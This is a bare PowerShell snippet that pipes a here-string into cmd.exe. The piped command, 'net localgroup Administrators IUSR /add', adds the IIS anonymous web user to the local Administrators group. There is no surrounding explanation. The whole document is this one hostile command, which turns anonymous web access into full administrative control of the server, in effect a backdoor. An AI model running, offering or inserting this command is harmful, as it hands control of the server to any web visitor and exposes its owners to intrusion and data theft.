@'
net localgroup Administrators IUSR /add
'@ | cmd.exe
